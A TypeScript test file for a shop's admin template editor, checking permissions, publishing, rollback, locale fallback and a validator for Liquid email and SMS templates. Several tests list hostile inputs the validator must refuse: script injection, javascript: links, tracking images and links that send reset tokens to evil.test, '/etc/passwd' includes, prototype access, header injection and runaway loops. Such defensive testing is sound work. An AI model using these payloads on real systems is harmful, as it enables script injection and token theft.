import { anonymous, customer, staff } from '@stoa/kit/testing/app'
import t, { type Test } from 'tap'
import { channelParts } from '../domain/channel.ts'
import { confirmationOf, passwordResetOf, templates } from '../domain/message.ts'
import { sampleScopeOf } from '../domain/template-samples.ts'
import { variablesOf } from '../domain/template-variables.ts'
import { sendDelivery } from '../flows/send-delivery.ts'
import { compile, renderCompiled } from '../mail/edited-templates.ts'
import { tryTemplate } from '../mail/template-check.ts'
import { createTemplates } from '../mail/templates.ts'
import { textOfHtml } from '../mail/text-of-html.ts'
import { createFixture, SHOP } from './fixture.ts'
import { orderWith } from './orders.ts'

const PATH = '/v1/admin/templates/order-confirmation/email'
const OWN = { subject: 'Thanks, {{ order.number }}', html: '<p>Hello {{ name }}</p>', text: 'Hello {{ name }}' }
const confirmation = { template: 'order-confirmation', channel: 'email', locale: 'en' } as const
const reset = { ...confirmation, template: 'password-reset' } as const

interface Problem {
  code: string
  errors: { pointer: string; code: string; detail: string }[]
}

async function editor(t: Test) {
  const fixture = await createFixture(t)
  const call = fixture.as(staff('templates.read', 'templates.write'))
  const save = (locale: string, parts: object, version: number, headers = {}) =>
    call('PUT', `${PATH}/${locale}/draft`, { body: { parts }, headers: { 'if-match': `"${version}"`, ...headers } })
  const act = (locale: string, path: string, version: number, body?: object) =>
    call('POST', `${PATH}/${locale}/${path}`, { headers: { 'if-match': `"${version}"` }, ...(body ? { body } : {}) })
  const publish = async (locale: string, parts: object, version: number) => {
    t.equal((await save(locale, parts, version)).status, 200)
    return act(locale, 'publish', version + 1)
  }
  const subjectFor = async (locale: string) => {
    const scope = confirmationOf(orderWith()).scope
    return (await fixture.deps.templates.render({ ...confirmation, locale }, scope, SHOP))?.parts.subject
  }
  return { ...fixture, call, save, act, publish, subjectFor }
}

const problemsOf = (parts: object, key: Parameters<typeof tryTemplate>[0] = confirmation) => {
  const tried = tryTemplate(key, parts, SHOP)
  return 'errors' in tried ? tried.errors.map(({ pointer, detail }) => `${pointer} ${detail}`) : []
}

t.test('only staff with the permission read and write templates', async (t) => {
  const fixture = await createFixture(t)
  for (const [principal, status] of [
    [anonymous, 401],
    [customer('usr_1'), 403],
    [staff('notifications.read', 'notifications.write'), 403],
  ] as const) {
    t.equal((await fixture.as(principal)('GET', '/v1/admin/templates')).status, status)
    t.equal((await fixture.as(principal)('GET', `${PATH}/en`)).status, status)
  }
  const headers = { 'if-match': '"0"' }
  const reader = fixture.as(staff('templates.read'))
  t.equal((await reader('PUT', `${PATH}/en/draft`, { body: { parts: OWN }, headers })).status, 403)
})

t.test('a draft is saved, published and rolled back, and messages are made of what is published', async (t) => {
  const { call, save, act, publish, subjectFor } = await editor(t)
  const fresh = await call('GET', `${PATH}/en`)
  t.match(fresh, { status: 200, headers: { etag: '"0"' }, body: { version: 0, draft: null, published: null } })
  t.match(fresh.body.default, { locale: 'en', parts: { subject: /Your order/ } })
  t.match(await save('en', OWN, 0), { status: 200, body: { version: 1, draft: { parts: OWN, saved_by: 'usr_staff' } } })
  t.equal(await subjectFor('en'), 'Your order S1001', 'a draft is sent to nobody')
  t.match(await act('en', 'publish', 1), { body: { draft: null, published: { number: 1, parts: OWN } } })
  t.equal(await subjectFor('en'), 'Thanks, S1001')
  t.match(await publish('en', { ...OWN, subject: 'Second' }, 2), { body: { published: { number: 2 } } })
  t.equal(await subjectFor('en'), 'Second')
  const versions = await call<{ data: unknown[] }>('GET', `${PATH}/en/versions`)
  t.match(versions.body.data, [
    { number: 2, restored_from: null },
    { number: 1, published_by: 'usr_staff' },
  ])
  t.match((await call('GET', `${PATH}/en/versions/1`)).body, { number: 1, parts: OWN })
  t.match(await act('en', 'rollback', 4, { number: 1 }), { body: { published: { number: 3, restored_from: 1 } } })
  t.equal(await subjectFor('en'), 'Thanks, S1001')
  t.match(await act('en', 'rollback', 5, { number: null }), { status: 200, body: { published: null } })
  t.equal(await subjectFor('en'), 'Your order S1001')
  t.equal((await act('en', 'rollback', 6, { number: 9 })).status, 404)
  t.equal((await act('en', 'publish', 6)).status, 409, 'there is no draft')
  const list = await call<{ data: object[] }>('GET', '/v1/admin/templates?limit=100')
  t.equal(list.body.data.length, createTemplates().defaults.length, 'each default once')
  t.match(
    list.body.data.find((each) => (each as { version: number }).version === 6),
    { published_number: null, has_default: true },
  )
})

t.test(
  'of two staff who edit the same version one is refused, and a repeated request is carried out once',
  async (t) => {
    const { save, call } = await editor(t)
    const headers = { 'idempotency-key': 'save-1' }
    const both = await Promise.all([save('de', OWN, 0), save('de', { ...OWN, subject: 'Mine' }, 0)])
    t.same(both.map(({ status }) => status).sort(), [200, 412])
    t.equal((await save('de', OWN, 1, headers)).status, 200)
    t.match(await save('de', OWN, 1, headers), { status: 200, body: { version: 2 } }, 'the same request again')
    t.equal((await save('de', OWN, 1)).status, 412, 'another one')
    t.equal((await call('PUT', `${PATH}/de/draft`, { body: { parts: OWN } })).status, 428)
  },
)

t.test('a message is in the locale of its recipient, of those that are published, else of the defaults', async (t) => {
  const { publish, subjectFor } = await editor(t)
  await publish('fr', { ...OWN, subject: 'Merci' }, 0)
  await publish('de-at', { ...OWN, subject: 'Servus' }, 0)
  t.equal(await subjectFor('fr-CA'), 'Merci')
  t.equal(await subjectFor('de-AT'), 'Servus')
  t.equal(await subjectFor('de-DE'), 'Ihre Bestellung S1001')
  t.equal(await subjectFor('es'), 'Your order S1001')
  await publish('en', { ...OWN, subject: 'Own' }, 0)
  t.equal(await subjectFor('es'), 'Own')
})

t.test('a preview is what is sent, with nothing sent or saved', async (t) => {
  const { call, publish, deps, smtp } = await editor(t)
  const html = '{% layout layout.html.liquid %}{% block content %}<p>{{ order.total | money }}</p>{% endblock %}'
  const parts = { subject: 'For {{ name }}', html }
  const preview = await call<{ parts: object }>('POST', `${PATH}/en/preview`, { body: { parts } })
  t.equal(preview.status, 200)
  await publish('en', parts, 0)
  const scope = sampleScopeOf('order-confirmation')
  t.strictSame((await deps.templates.render(confirmation, scope, SHOP))?.parts, preview.body.parts)
  t.match(preview.body.parts, { subject: 'For Ada Lovelace', text: /€157\.38/ }, 'the text is made of the HTML')
  t.equal(smtp.mails.length, 0)
  const bad = await call<Problem>('POST', `${PATH}/en/preview`, {
    body: { parts: { ...parts, subject: '{{ nothing }}' } },
  })
  t.match(bad, {
    status: 422,
    body: { code: 'unprocessable', errors: [{ pointer: '/parts/subject', code: 'unknown' }] },
  })
})

t.test('every default is a template that staff may save', async (t) => {
  const defaults = createTemplates()
  for (const key of defaults.defaults) {
    t.same(problemsOf(defaults.defaultOf(key)?.parts ?? {}, key), [], `${key.template} ${key.channel} ${key.locale}`)
  }
  for (const template of templates) {
    const scope = sampleScopeOf(template)
    for (const name of Object.keys(variablesOf(template))) {
      const [root = ''] = name.split(/[.[]/)
      t.ok(root === 'shop' || root === 'locale' || root in scope, `${template} has ${name}`)
    }
  }
  t.same(Object.keys(channelParts), ['email', 'sms', 'push'])
})

t.test('what a template does not have is refused, with its line and column', async (t) => {
  for (const [source, said] of [
    ['line one\n {{ order.nummer }}', /Line 2, column 5: there is no variable order\.nummer/],
    ['{{ order.email }}', /no variable order\.email/],
    ['{{ order.number | shout }}', /Line 1, column \d+: undefined filter: shout/],
    ['{% if name %}', /Line 1, column 1: tag .*not closed/],
    ['{{ name.constructor.constructor }}', /no variable name\.constructor/],
    ['{{ order.__proto__ }}', /no variable order\.__proto__/],
    ['{% include "/etc/passwd" %}', /tag "include" not found/],
    ['{% render "/etc/passwd" %}', /names no file/],
    ['{% layout "../domain/shop.ts" %}', /names no file/],
    ['{{ order.number | raw }}', /undefined filter: raw/],
    ['{% for i in (1..100000000) %}x{% endfor %}', /limit exceeded/],
    [
      '{% for i in (1..900) %}{% for j in (1..900) %}{% for k in (1..900) %}x{% endfor %}{% endfor %}{% endfor %}',
      /limit exceeded/,
    ],
    [`{% for i in (1..500) %}${'x'.repeat(20_000)}{% endfor %}`, /more than 200000 characters/],
    [
      '{% assign a = "xxxxxxxxxx" %}{% for i in (1..40) %}{% assign a = a | append: a %}{% endfor %}{{ a }}',
      /limit exceeded/,
    ],
    [
      '{% assign x = "aaaaaaaa" %}{% for i in (1..24) %}{% capture x %}{{ x }}{{ x }}{% endcapture %}{% endfor %}{% if x contains "b" %}{% endif %}',
      /limit exceeded/,
    ],
  ] as const) {
    t.match(problemsOf({ ...OWN, text: source }), [said], source.slice(0, 40))
  }
  t.match(problemsOf({ ...OWN, title: 'x' }), [/there is no title/i])
  t.match(problemsOf({ html: '<p>x</p>' }), [/subject/])
})

t.test('what runs, loads or leads where data says is refused in HTML', async (t) => {
  for (const html of [
    '<script>x</script>',
    '<p onclick="x">x</p>',
    '<iframe src="https://evil.test"></iframe>',
    '<form action="https://evil.test"><input></form>',
    '<a href="javascript:x">x</a>',
    '<a href=" javascript:x">x</a>',
    '<a href="&#106;avascript:x">x</a>',
    '<a href="//evil.test">x</a>',
    '<a href="{{ order.number }}">x</a>',
    '<a href="https://{{ order.number }}">x</a>',
    '<a href="{{ shop.url }}.evil.test">x</a>',
    '<a href="{{ shop.url }}@evil.test">x</a>',
    '<a href="{{ shop.url }}{{ order.number }}">x</a>',
    '<a href="{{ shop.url }}{{ order.number | url_encode }}">x</a>',
    '{% assign x = order.number %}<a href="{{ x }}">x</a>',
    '<p title={{ name }}>x</p>',
    '<p title="{% if name %}">x</p>',
    '<p {{ name }}>x</p>',
    '<{{ "script" }}>x</p>',
    '<{% if name %}script>x',
    '{% if name %}<p title="{% endif %}',
    '<scr{% comment %}{% endcomment %}ipt>x',
    '<!-- {% if name %} --> <script>x</script>',
    '<svg onload="x"></svg>',
    '<meta http-equiv="refresh" content="0">',
    '<p style="background:url(https://evil.test)">x</p>',
    '<p style="background:url&#40;https://evil.test)">x</p>',
    '<p style=\'background:image-set("https://evil.test/x" 1x)\'>x</p>',
    '<p style="background:-webkit-image-set(x)">x</p>',
    '<p style="background:src(x)">x</p>',
    '<style>a[href*="x"]{background:image("https://evil.test/x")}</style>',
    '<p style="{{ name }}">x</p>',
    '<style>@import "x";</style>',
    '<img src="data:image/png;base64,x">',
    '<base href="https://evil.test">',
    '<p>x</p><a href="x',
  ]) {
    t.ok(problemsOf({ ...OWN, html }).length > 0, html)
  }
  const fine = `<!doctype html><style>@media (max-width: 30em) { p:not(.a) { color: rgb(0 0 0 / 50%); width: calc(100% - 2px) } }</style><h1 style="color:{{ shop.accent }}">Hi {{ name }}</h1>{% if name %}<p title="{{ name }}">&lt;</p>{% endif %}
    <a href="{{ shop.url }}/orders?number={{ order.number | url_encode }}">x</a><img src="https://cdn.example.test/logo.png" alt="{{ shop.name }}">
    <a href="mailto:{{ shop.email }}">y</a>{% for line in order.lines %}{{ line.title }}{% endfor %}{{ order.lines.size }}{{ order.lines[0].title }}`
  t.same(problemsOf({ ...OWN, html: fine }), [])
})

t.test('no picture and no link tells another server who reads the mail', async (t) => {
  const line = '{{ line | url_encode }}'
  const lines = 'order.shipping_address.lines'
  for (const html of [
    '<img src="https://evil.test/?{{ order.number | url_encode }}">',
    '<img src="https://evil.test/{{ name | url_encode }}">',
    `{% for line in ${lines} %}<img src="https://evil.test/?${line}">{% endfor %}`,
    '{% if name contains "A" %}<img src="https://evil.test/A">{% endif %}',
    '{% case name %}{% when "Ada" %}<img src="https://evil.test/A">{% endcase %}',
    '{% unless name %}{% else %}<p>x</p><img src="https://evil.test/A">{% endunless %}',
    `{% for line in ${lines} %}{% if line == "x" %}{% endif %}<img src="https://evil.test/x">{% endfor %}`,
    '{% if(name) %}<img src="https://evil.test/A">{% endif %}',
    '{% if name %}{% comment %}{% endif %}{% endcomment %}<img src="https://evil.test/A">{% endif %}',
    '{% comment %}{% comment %}{% endif %}{% endcomment %}{% if name %}<img src="https://evil.test/A">{% endif %}',
    '{% if name %}{% break %}{% endif %}<img src="https://evil.test/A">',
    '{% for line in order.lines %}{% endfor %}{% if name %}{% continue %}{% endif %}<p>x</p>',
    '{% capture"amount" %}{{ name }}{% endcapture %}<a href="https://evil.test/?{{ amount | url_encode }}">x</a>',
    '<a href="https://evil.test/?{{ name | url_encode }}">x</a>',
    `{% for line in ${lines} %}<a href="https://evil.test/?${line}">x</a>{% endfor %}`,
    '{% assign amount = name %}<a href="https://evil.test/?{{ amount | url_encode }}">x</a>',
    '{% capture order %}{{ name }}{% endcapture %}<a href="https://evil.test/?{{ order.number | url_encode }}">x</a>',
    '{% if name %}{% block x %}{% endblock %}{% endif %}<p>x</p>',
    '{% block x %}{% endblock %}{% block content %}{% block "x" %}<img src="https://evil.test/A">{% endblock %}{% endblock %}',
    '{% layout layout.html.liquid, locale: name %}{% block content %}<a href="https://evil.test/?{{ locale | url_encode }}">x</a>{% endblock %}',
    `{%- for shop in ${lines} -%}<img src="{{ shop.url }}/x">{% endfor %}`,
  ]) {
    t.ok(problemsOf({ ...OWN, html }).length > 0, html)
  }
  const fine = `<img src="https://cdn.example.test/logo.png" alt="">{% if name %}<p>x</p>{% endif %}<img src="https://cdn.example.test/line.png" alt="">
    {% if name %}<img src="{{ shop.url }}/hello.png?name={{ name | url_encode }}" alt="">{% endif %}
    <a href="https://reviews.example.test/?order={{ order.number | url_encode }}">x</a>`
  t.same(problemsOf({ ...OWN, html: fine }), [])
})

t.test('data is escaped in HTML, and makes no header of the subject', async (t) => {
  const { publish, deps } = await editor(t)
  await publish(
    'en',
    {
      subject: 'For {{ order.number }}\nBcc: eve@example.test',
      html: '<p title="{{ order.number }}">{{ order.number }}</p>',
    },
    0,
  )
  const { scope } = confirmationOf(orderWith({ number: '"><script>x</script>\r\nBcc: eve@example.test' }))
  const { subject = '', html = '' } = (await deps.templates.render(confirmation, scope, SHOP))?.parts ?? {}
  t.notMatch(subject, /[\r\n]/)
  t.notMatch(html, /<script|title=""/)
})

t.test('the link that a message is for has to be there, and leads to the storefront', async (t) => {
  const link = '{{ shop.url }}/reset-password?token={{ token }}'
  const own = { subject: 'x', html: `<a href="${link}">x</a>`, text: link }
  t.same(problemsOf(own, reset), [])
  t.match(problemsOf({ ...own, text: 'none' }, reset), [/\/text The link is missing/])
  t.match(problemsOf({ ...own, html: '<p>none</p>' }, reset), [/\/html The link is missing/])
  for (const text of ['https://evil.test/?t={{ token }}', '{{ shop.url }}.evil.test/{{ token }}', '{{ token }}'])
    t.match(problemsOf({ ...own, text }, reset), [/outside of a link/], text)
  for (const href of [
    'https://evil.test/{{ token }}',
    'https://evil.test/{{ shop.url }}/{{ token }}',
    '{{ shop.url }}/{{ token | upcase }}',
  ])
    t.ok(problemsOf({ ...own, html: `<a href="${href}">x</a>` }, reset).length > 0, href)
})

t.test('no spelling of a link leads a token out of the storefront', async (t) => {
  const link = '{{ shop.url }}/reset-password?token={{ token }}'
  const anchor = `<a href="${link}">Set a new password</a>`
  const alias = `{% assign t = token %}{% assign b = token | slice: 9, 300 %}${anchor}`
  t.same(
    problemsOf({ subject: 'x', html: `<a href="${link}">${link}</a>`, text: `Here (${link}) or <${link}>.` }, reset),
    [],
  )
  for (const html of [
    `${anchor}<img src="{{ shop.url }}/{{ token }}" alt="">`,
    `${anchor}<p>https://evil.test/?t=(${link}</p>`,
    `<p>https://evil.test/?t=<a href="${link}">${link}</a></p>`,
    `${anchor}<p>${link}</p>`,
    `${anchor}<p title="${SHOP.url}/{{ token }}">x</p>`,
  ])
    t.match(problemsOf({ subject: 'x', html }, reset), [/outside of a link/], html)
  for (const html of [
    `${alias}<img src="https://evil.test/p.png?a=(${SHOP.url}/{{ t | url_encode }}" alt="">`,
    `${alias}<a href="https://evil.test/?a='${SHOP.url}/{{ t | url_encode }}">x</a>`,
    `${alias}<a href="https://evil.test/?t=token&#45;of-{{ b | url_encode }}">x</a>`,
  ])
    t.match(problemsOf({ subject: 'x', html }, reset), [/A link out of the shop/], html)
  for (const text of [`https://evil.test/?t=(${link} ${link}`, `evil.test/"${link}`, `https://evil.test/[${link}]`])
    t.match(problemsOf({ subject: 'x', html: anchor, text }, reset), [/outside of a link/], text)
  const phone = { template: 'phone-code', channel: 'sms', locale: 'en' } as const
  for (const text of ['https://evil.test/?c=({{ code }}', '{{ code }}.evil.test', 'evil.test/"{{ code }}"'])
    t.match(problemsOf({ text }, phone), [/the code stands in a link/], text)
})

t.test('HTML that nests without end is refused as written and as filled in', async (t) => {
  const deep = (count: number) => `{% for i in (1..${count}) %}<i>{% endfor %}`
  t.match(problemsOf({ subject: 'x', html: `${'<i>'.repeat(101)}x` }), [/\/html Line 1, .*more than 100 deep/])
  t.match(problemsOf({ subject: 'x', html: deep(101) }), [/\/html .*more than 100 deep/])
  t.match(
    problemsOf({ subject: 'x', html: `<a href="{{ shop.url }}/{{ token }}">x</a>${deep(101)}`, text: 'x' }, reset),
    [/\/html .*more than 100 deep/],
  )
  t.same(
    problemsOf({ subject: 'x', html: `${'<i>'.repeat(90)}x<br>${'</i>'.repeat(90)}${'<b>x</b><br>'.repeat(200)}` }),
    [],
  )
})

t.test('a template with thousands of mistakes is told of the first twenty', async (t) => {
  const html = '<x>\n</x>\n'.repeat(10_000)
  const refused = tryTemplate(
    { template: 'welcome', channel: 'email', locale: 'en' },
    { subject: 'S', html, text: '' },
    SHOP,
  )
  t.equal('errors' in refused && refused.errors.length, 20)
  t.match(refused, { errors: [{ pointer: '/parts/html', detail: /^Line 1, column 1:/ }] })
})

t.test('an SMS with a code has it, in no link, and is not long', async (t) => {
  const key = { template: 'phone-code', channel: 'sms', locale: 'en' } as const
  t.same(problemsOf({ text: 'Your code: {{ code }}.' }, key), [])
  t.match(problemsOf({ text: 'Hello' }, key), [/The code is missing/])
  t.match(problemsOf({ text: 'https://evil.test/?c={{ code }} {{ code }}' }, key), [/the code stands in a link/])
  t.match(problemsOf({ text: `{{ code }} ${'x'.repeat(1_000)}` }, key), [/more than 1000 characters/])
  t.match(problemsOf({ text: '{{ code }}', subject: 'x' }, key), [/There is no subject on sms/])
})

t.test('a published template that fails loses no mail, and staff see it', async (t) => {
  const { call, publish, deps, consumeOrderPlaced, read, logLines } = await editor(t)
  await publish('en', OWN, 0)
  for (const text of ['{% if %}', '{{ order.number | money }}', '{% for i in (1..999999999) %}{% endfor %}']) {
    const change = { $set: { 'published.parts.text': text, 'published.number': text.length, failure: null } }
    await deps.templateModels.edited.updateOne({ _id: 'order-confirmation/email/en' }, change)
    deps.publishedTemplates.forget()
    await consumeOrderPlaced(`evt_${text.length}`)
    t.match((await read(`evt_${text.length}`)).subject, 'Your order S1001', text)
  }
  t.match(logLines.join(''), /template failed, the default is sent/)
  const shown = async () => (await call('GET', `${PATH}/en`)).body.failure as object | null
  while (!(await shown())) await new Promise(setImmediate)
  t.match(await shown(), { reason: /.+/ })
  const { body } = await publish('en', OWN, 2)
  t.equal(body.failure, null, 'what is published next begins anew')
})

t.test('a machine that stands still while a message is made does not make its template one that fails', async (t) => {
  let stalls = 0
  const standStill = () => {
    if (++stalls <= 1) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 600)
    return 'Ada'
  }
  const scope = { ...confirmationOf(orderWith()).scope, name: { toString: standStill } }
  const made = renderCompiled(compile('order-confirmation', 'email', OWN), { scope, shop: SHOP, locale: 'en' })
  t.match(made, { text: /^Hello Ada/ })
  t.ok(stalls > 2, 'it was rendered once more')
})

t.test('a token that a condition hides from the check goes nowhere else either', async (t) => {
  const { deps } = await editor(t)
  const text = '{{ shop.url }}/x?token={{ token }}{% if name == "Eve" %} https://evil.test/{{ token }}{% endif %}'
  const html = '<a href="{{ shop.url }}/x?token={{ token }}">x</a>'
  t.same(problemsOf({ subject: 'x', html, text }, reset), [])
  const published = {
    number: 1,
    restored_from: null,
    published_at: new Date(),
    published_by: 'x',
    parts: { subject: 'x', html, text },
  }
  const own = {
    _id: 'password-reset/email/en',
    ...reset,
    version: 1,
    draft: null,
    published,
    last_number: 1,
    failure: null,
  }
  await deps.templateModels.edited.insertMany([{ ...own, updated_at: new Date(), updated_by: 'x', requests: [] }], {
    lean: true,
  })
  const contact = { user_id: 'usr_1', email: 'e@example.test', name: 'Eve', locale: 'en', client: null }
  const sent = await deps.templates.render(reset, passwordResetOf(contact, 'prs_1').scope, SHOP)
  t.notMatch(sent?.parts.text ?? '', 'evil')
  t.match(sent?.parts.text ?? '', `${SHOP.url}/reset-password?token=token-of-prs_1`)
})

t.test('the text of HTML has its lines, rows and links', async (t) => {
  const html = `<head><style>p{}</style><title>x</title></head><h1>Hi  there</h1><p>One<br>two</p>
    <table><tr><th>Item</th><td>€1</td></tr><tr><td>B &amp; C</td></tr></table><ul><li>x</li></ul><a href="https://x.test/">Shop</a>`
  t.equal(textOfHtml(html), 'Hi there\n\nOne\ntwo\n\nItem €1\n\nB & C\n\n- x\n\nShop https://x.test/\n')
})

t.test('a test is sent to whoever asks for it, once for a key, and 50 times a day', async (t) => {
  const { as, deps, services, smtp, all, save, log } = await editor(t)
  services.contacts.set('usr_staff', { ...services.contacts.get('usr_1'), email: 'clerk@shop.example' } as never)
  await save('en', OWN, 0)
  const testSend = (body: object = {}, { key = '', path = `${PATH}/en`, permission = 'templates.write' } = {}) =>
    as(staff(permission))<{ id: string; code: string }>('POST', `${path}/test-send`, {
      body,
      ...(key ? { headers: { 'idempotency-key': key } } : {}),
    })
  const first = await testSend({}, { key: 'k1' })
  const asked = { to: 'clerk@shop.example', subject: '[Test] Thanks, S1001', event_type: 'template.test' }
  t.match(first, { status: 202, body: { ...asked, status: 'waiting' } })
  t.equal((await testSend({}, { key: 'k1' })).body.id, first.body.id)
  t.equal((await all()).length, 1)
  t.match(await testSend({ parts: OWN }, { key: 'k1' }), { status: 422, body: { code: 'idempotency_key_reused' } })
  const sendIt = (id: string) => sendDelivery({ ...deps, log }, id, new Date(Date.now() + 1_000))
  await sendIt(first.body.id)
  t.match(smtp.mails[0]?.raw, /Subject: \[Test\] Thanks, S1001/)
  t.match(await testSend({ parts: { ...OWN, html: '<script>' } }), { status: 422, body: { code: 'unprocessable' } })
  t.match(await testSend({ parts: { ...OWN, subject: 'Other' } }), { body: { subject: '[Test] Other' } })
  t.equal((await testSend({}, { permission: 'templates.read' })).status, 403)

  const stock = await testSend({}, { path: '/v1/admin/templates/back-in-stock/email/en' })
  await sendIt(stock.body.id)
  t.match(smtp.mails[1]?.raw, /sample-token/)
  t.notMatch(smtp.mails[1]?.raw, /List-Unsubscribe/, 'no link in it does anything')

  const sms = { path: '/v1/admin/templates/phone-code/sms/en' }
  t.match(await testSend({}, sms), { status: 422, body: { code: 'unprocessable' } }, 'the shop sends no SMS')
  const push = { path: '/v1/admin/templates/shipping/push/en' }
  t.match(await testSend({}, push), { status: 422, body: { detail: /no registered device/ } })
  for (let k = 0; k < 47; k++) await testSend()
  t.match(await testSend(), { status: 429, body: { code: 'rate_limited' } })
  t.equal((await testSend({}, { key: 'k1' })).status, 202, 'what was sent is still known')
})
